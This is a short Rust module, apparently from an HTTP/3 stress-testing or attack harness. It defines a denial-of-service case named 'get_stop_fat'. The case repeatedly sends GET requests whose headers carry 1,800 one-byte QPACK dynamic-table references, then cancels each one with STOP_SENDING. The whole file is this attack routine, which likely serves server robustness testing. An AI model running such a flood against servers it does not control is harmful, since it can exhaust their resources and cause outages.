//! GET and STOP_SENDING, each head with 1,800 one-byte references to the dynamic table.

use crate::attacker::{Attack, Attacker};
use crate::wire::Section;

pub(super) const ATTACK: Attack = Attack::new(
    "get_stop_fat",
    "whole GETs of 1,800 fields in 1.9 KB, stopped",
    run,
)
.by(2);

fn run(a: &mut Attacker) {
    let get = Section::after(1).get(a.kind.hang()).entry(0, 1_800).frame();
    a.storm_inserted("a", "", |conn| {
        while let Some(id) = conn.whole_request(&get) {
            conn.stop(id, 0x10c);
            conn.ops += 1;
        }
    });
}
